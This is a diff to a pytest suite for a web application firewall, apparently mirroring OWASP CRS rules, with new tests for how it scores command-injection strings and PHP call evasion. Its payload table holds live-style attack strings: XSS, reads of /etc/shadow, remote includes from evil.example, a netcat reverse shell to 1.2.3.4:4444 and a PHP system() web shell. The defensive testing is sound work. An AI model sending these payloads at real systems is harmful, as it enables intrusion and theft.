@@ -70,7 +70,7 @@ ATTACKS = {
             "/?q=<svg/onload=alert(1)>", "/?q=%3Ciframe%20src%3D//evil%3E", "/?x=document.cookie"],
     "lfi": ["/?page=../../../../etc/shadow", "/?f=..\\..\\windows\\win.ini", "/.git/config"],
     "rfi": ["/?inc=http://10.0.0.5/shell.txt", "/?inc=ftp?", "/?load=https://evil.example/x.php"],
-    "rce": ["/?h=example.com;cat /etc/hosts", "/?c=$(id)", "/?c=|nc -e /bin/sh 1.2.3.4 4444",
+    "rce": ["/?h=example.com;uname -a", "/?c=$(id)", "/?c=|nc -e /bin/sh 1.2.3.4 4444",
             "/?c=`whoami`", "/?c=powershell -encodedcommand abc"],
     "php": ["/?x=<?php system($_GET['c']); ?>", "/?f=php://filter/resource=index",
             "/?d=O:8:\"stdClass\":0:{}", "/?x=base64_decode('aWQ=')"],
@@ -171,3 +171,32 @@ def test_ua_and_headers(waf: NativeWaf) -> None:
     assert waf.inspect("POST", "/", [("Host", "a"), ("Content-Type", "text/plain")], body)[0] == 0
     assert 934210 in waf.inspect("POST", "/", [("Host", "a"), ("Content-Type", "text/plain")],
                                  '{"password__startswith": "a"}')[1]
+
+
+@pytest.mark.parametrize("uri,pl1_rce", [
+    ("/?c=;cat /path/file.gz", False),      # English-word commands with arguments: PL2 (932236)
+    ("/?c=tar -xzf /tmp/x.tgz /etc", False),
+    ("/?c=bash -c \"echo test\"", False),
+    ("/?c=;ps", True),                      # ...but a bare one closing the value after a prefix is PL1
+    ("/?c=;uname -a", True),                # unambiguous command words stay PL1
+    ("/?c=gunzip -c /var/log/x.gz", True),
+    ("/?c=python -c x", False),             # an English word at the start of a value...
+    ("/?c=python3 -c x", True),             # ...but not with a version suffix
+])
+def test_command_words_follow_crs_paranoia_split(waf: NativeWaf, uri: str, pl1_rce: bool) -> None:
+    q = uri.replace(" ", "%20").replace('"', "%22")
+    pl1 = {waf.family(r) for r in score(waf, q)[1]}
+    assert ("rce" in pl1) is pl1_rce, (uri, pl1)
+    assert 932236 in waf.inspect("GET", q, [("Host", "a")], paranoia=2)[1]
+
+
+def test_expansion_and_php_call_shapes(waf: NativeWaf) -> None:
+    # backticks are a 932230 command prefix, not a 932130 expansion; prose in backticks is no command
+    assert score(waf, "/?v=%60hello%20world%60")[0] == 0
+    assert 932230 in score(waf, "/?v=%60uname%20-a%60")[1]
+    # a bracket glob inside a path name is evasion; a regex character class is not
+    assert 932130 in score(waf, "/?s=/etc/%5B!q%5Dasswd")[1]
+    assert 932130 not in score(waf, "/?p=%2F%5Ba-z%5D%7B1%2C5%7D%2F")[1]
+    # "//" and "#" comments between a PHP function name and its "(" do not hide the call
+    assert 933150 in score(waf, "/?f=exec%20%2f%2fx%0d%0a%20%28blah%29")[1]
+    assert 933150 in score(waf, "/?f=exec%23%0a%20%28blah%29")[1]
